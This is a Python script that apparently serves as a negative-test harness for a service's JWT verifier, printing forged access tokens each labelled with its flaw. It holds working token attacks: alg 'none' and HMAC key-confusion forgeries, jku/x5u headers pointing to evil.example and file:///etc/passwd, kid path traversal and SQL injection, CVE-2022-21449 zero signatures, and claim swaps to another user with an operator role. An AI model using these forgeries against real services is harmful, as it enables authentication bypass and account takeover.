"""forge.py - prints forged access tokens, one a line: what is wrong with it, a tab, the token.

usage: forge.py KEY_DIR OTHER_USER OTHER_SESSION < TOKEN

Most are what a client can make who knows a token, the published key, and the ids of another user.
The rest are signed with the service's own key (KEY_DIR), each with one fault: they would be made by
another service that got hold of it, or by a fault of ours. No two have the same name.
"""
import base64
import hashlib
import hmac
import json
import os
import subprocess
import sys
import tempfile
import time
import uuid

FOLDER, OTHER_USER, OTHER_SESSION = sys.argv[1:]
ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
TOKEN = sys.stdin.read().strip()


def b64(data):
    return base64.urlsafe_b64encode(data if isinstance(data, bytes) else data.encode()).rstrip(b"=").decode()


def raw(text):
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def part(value):
    return b64(value if isinstance(value, (str, bytes)) else json.dumps(value, separators=(",", ":")))


def openssl(*arguments, stdin=b""):
    return subprocess.run(["openssl", *arguments], input=stdin, check=True, capture_output=True).stdout


def der_integers(der, size):
    """The two integers of an ECDSA signature, each in size bytes."""
    at, out = (3 if der[1] & 0x80 else 2), b""
    for _ in range(2):
        n = der[at + 1]
        out += int.from_bytes(der[at + 2 : at + 2 + n], "big").to_bytes(size, "big")
        at += 2 + n
    return out


def ecdsa(key, text, digest="-sha256", size=32):
    """A signature in the form of JWS, with the s that this project writes: the low one."""
    signature = der_integers(openssl("dgst", digest, "-sign", key, stdin=text.encode()), size)
    s = int.from_bytes(signature[size:], "big")
    return signature[:size] + min(s, ORDER - s).to_bytes(size, "big") if size == 32 else signature


header64, payload64, signature64 = TOKEN.split(".")
HEADER, CLAIMS, SIGNATURE = json.loads(raw(header64)), json.loads(raw(payload64)), raw(signature64)
OURS = os.path.join(FOLDER, HEADER["kid"] + ".pem")
NOW = int(time.time())
scratch = tempfile.mkdtemp()


def new_key(curve):
    path = os.path.join(scratch, curve)
    openssl("genpkey", "-algorithm", "EC", "-pkeyopt", "ec_paramgen_curve:" + curve, "-out", path)
    return path


def jwk_of(key):
    point = openssl("pkey", "-in", key, "-pubout", "-outform", "DER")[-64:]
    return {"kty": "EC", "crv": "P-256", "x": b64(point[:32]), "y": b64(point[32:]), "kid": HEADER["kid"]}


def token(header=None, claims=None, key=OURS, sign=ecdsa):
    text = part(HEADER if header is None else header) + "." + part(CLAIMS if claims is None else claims)
    return text + "." + b64(sign(key, text))


def found(name, forged):
    assert forged != TOKEN and "\n" not in forged and "\t" not in forged, name
    print(name + "\t" + forged)


# --- what anyone can make ---
operator = {**CLAIMS, "roles": ["customer", "operator"]}
THEIRS = new_key("P-256")
public_pem = openssl("pkey", "-in", OURS, "-pubout")
public_der = openssl("pkey", "-in", OURS, "-pubout", "-outform", "DER")

for alg in ("none", "None", "NONE", "nOnE", ""):
    head = part({**HEADER, "alg": alg}) + "." + part(operator)
    found(f"alg {alg!r}, no signature", head + ".")
    found(f"alg {alg!r}, the old signature", head + "." + signature64)
for alg, digest in (("HS256", "sha256"), ("HS384", "sha384"), ("HS512", "sha512")):
    for what, secret in (("PEM", public_pem), ("PEM without its line end", public_pem.rstrip()), ("DER", public_der),
                         ("point", public_der[-65:]), ("x", public_der[-64:-32]), ("kid", HEADER["kid"].encode()), ("nothing", b"")):
        found(f"{alg} with the public key's {what}", token(
            {**HEADER, "alg": alg}, operator, sign=lambda _, text: hmac.new(secret, text.encode(), digest).digest()))
for alg in ("RS256", "PS256", "ES384", "ES512", "ES256K", "EdDSA"):
    found(f"alg {alg} over our signature", token({**HEADER, "alg": alg}))
found("another key", token(None, operator, THEIRS))
found("another key, in jwk", token({**HEADER, "jwk": jwk_of(THEIRS)}, operator, THEIRS))
found("another key, in jwk, without kid", token({"alg": "ES256", "typ": "at+jwt", "jwk": jwk_of(THEIRS)}, operator, THEIRS))
for name in ("jku", "x5u"):
    for url in ("https://evil.example/jwks.json", "http://127.0.0.1:1/", "file:///etc/passwd", "//evil.example"):
        found(f"another key, {name} {url}", token({**HEADER, name: url}, operator, THEIRS))
found("another key, in x5c", token({**HEADER, "x5c": [base64.b64encode(public_der).decode()]}, operator, THEIRS))
found("another key, another kid", token({**HEADER, "kid": str(uuid.uuid4())}, operator, THEIRS))
for kid in ("../../../../../dev/null", "/dev/null", HEADER["kid"] + "/", HEADER["kid"].upper() + "\0", "' OR 1=1 --", "", "%", "*"):
    found(f"another key, kid {kid!r}", token({**HEADER, "kid": kid}, operator, THEIRS))
found("a key of P-384", token(None, operator, new_key("P-384"), lambda k, t: ecdsa(k, t, "-sha384", 48)))
found("a key of secp256k1", token(None, operator, new_key("secp256k1")))
# CVE-2022-21449: an implementation that does not check the range of r and s accepts these.
for name, r, s in (("0, 0", 0, 0), ("0, 1", 0, 1), ("1, 0", 1, 0), ("1, 1", 1, 1), ("n, n", ORDER, ORDER), ("n, 1", ORDER, 1), ("1, n", 1, ORDER),
                   ("max, max", 2**256 - 1, 2**256 - 1)):
    found(f"r, s = {name}", token(None, operator, sign=lambda *_: r.to_bytes(32, "big") + s.to_bytes(32, "big")))

# --- a real token, changed: the service has just seen the real one ---
s = int.from_bytes(SIGNATURE[32:], "big")
for name, signature in (("the other s", SIGNATURE[:32] + (ORDER - s).to_bytes(32, "big")), ("s + n", SIGNATURE[:32] + ((s + ORDER) % 2**256).to_bytes(32, "big")),
                        ("r and s swapped", SIGNATURE[32:] + SIGNATURE[:32]), ("in DER", openssl("dgst", "-sha256", "-sign", OURS, stdin=TOKEN.encode())),
                        ("a byte more", SIGNATURE + b"\0"), ("a byte less", SIGNATURE[:-1]), ("none", b""), ("twice", SIGNATURE * 2)):
    found(f"the signature: {name}", f"{header64}.{payload64}.{b64(signature)}")
for name, claims in (("sub of another", {**CLAIMS, "sub": OTHER_USER}), ("sub and sid of another", {**CLAIMS, "sub": OTHER_USER, "sid": OTHER_SESSION}),
                     ("sid of another", {**CLAIMS, "sid": OTHER_SESSION}), ("roles added", operator), ("a later exp", {**CLAIMS, "exp": CLAIMS["exp"] + 3600})):
    found(f"the old signature over {name}", f"{header64}.{part(claims)}.{signature64}")
    found(f"the old payload in front: {name}", f"{header64}.{payload64}.{part(claims)}.{signature64}")
for name, text in (("twice", f"{TOKEN}.{TOKEN}"), ("a dot after it", TOKEN + "."), ("a dot before it", "." + TOKEN), ("five parts", f"{header64}..{payload64}.{signature64}.{signature64}"),
                   ("no header", f".{payload64}.{signature64}"), ("no payload", f"{header64}..{signature64}"), ("two parts", f"{header64}.{payload64}"),
                   ("the header twice", f"{header64}.{header64}.{payload64}.{signature64}"), ("the payload twice", f"{header64}.{payload64}.{payload64}.{signature64}"),
                   ("padded", TOKEN + "=="), ("each part padded", f"{header64}=.{payload64}=.{signature64}=="), ("with a comma", TOKEN + "," + TOKEN),
                   ("a stray bit at the end", TOKEN[:-1] + chr(ord(TOKEN[-1]) + 1)), ("percent-encoded", TOKEN.replace(".", "%2E")),
                   ("in quotes", f'"{TOKEN}"'), ("with a space in it", f"{header64} .{payload64}.{signature64}"), ("4 KiB", TOKEN + "A" * 4096),
                   ("in another alphabet", f"{header64}.{payload64}.+/{signature64[2:]}"), ("8 KiB of claims", token(None, {**CLAIMS, "pad": "x" * 8192}))):
    found(f"the token: {name}", text)

# --- signed with our key, one fault each ---
for name in HEADER:
    found(f"signed, without {name}", token({k: v for k, v in HEADER.items() if k != name}))
for name, header in (("typ JWT", {**HEADER, "typ": "JWT"}), ("typ rt+jwt", {**HEADER, "typ": "rt+jwt"}), ("crit", {**HEADER, "crit": ["exp"]}), ("an unencoded payload", {**HEADER, "b64": False, "crit": ["b64"]}),
                     ("another kid", {**HEADER, "kid": str(uuid.uuid4())}), ("alg as a list", {**HEADER, "alg": ["ES256"]}), ("a header that is a list", [HEADER]),
                     ("alg twice", json.dumps(HEADER)[:-1] + ',"alg":"none"}'), ("text after the header", json.dumps(HEADER) + "{}")):
    found(f"signed, {name}", token(header))
for name in CLAIMS:
    found(f"signed, without {name}", token(None, {k: v for k, v in CLAIMS.items() if k != name}))
for name, claims in (("iss of another", {"iss": "https://evil.example"}), ("iss with a slash more", {"iss": CLAIMS["iss"] + "/"}), ("aud of another", {"aud": "someone else"}),
                     ("aud as a list of others", {"aud": ["someone", "else"]}), ("expired", {"exp": NOW - 1, "iat": NOW - 601}), ("exp as text", {"exp": str(NOW + 600)}),
                     ("exp as a fraction", {"exp": NOW + 600.5}), ("exp past 64 bits", {"exp": 2**70}), ("exp below zero", {"exp": -(2**40)}), ("not yet valid", {"nbf": NOW + 60}),
                     ("issued tomorrow", {"iat": NOW + 86400}), ("sid of another", {"sid": OTHER_SESSION}), ("sub of another", {"sub": OTHER_USER}), ("sub of no one", {"sub": str(uuid.uuid4())}),
                     ("sid of no one", {"sid": str(uuid.uuid4())}), ("sub as a list", {"sub": [CLAIMS["sub"]]}), ("roles as text", {"roles": "operator"}), ("roles as numbers", {"roles": [2]}),
                     ("roles as an object", {"roles": {"operator": True}})):
    found(f"signed, {name}", token(None, {**CLAIMS, **claims}))
text = json.dumps(CLAIMS)
for name, payload in (("sub twice", text[:-1] + f',"sub":"{OTHER_USER}"}}'), ("text after the claims", text + "{}"), ("a NUL in the claims", text[:-1] + "\0}"), ("a byte order mark", "\ufeff" + text),
                      ("claims that are not UTF-8", text.encode()[:-1] + b',"x":"\xff"}'), ("claims in a list", [CLAIMS]), ("claims in depth", text[:-1] + ',"x":' + "[" * 400 + "]" * 400 + "}"), ("no claims", "")):
    found(f"signed, {name}", token(None, payload))
subprocess.run(["rm", "-r", scratch], check=True)
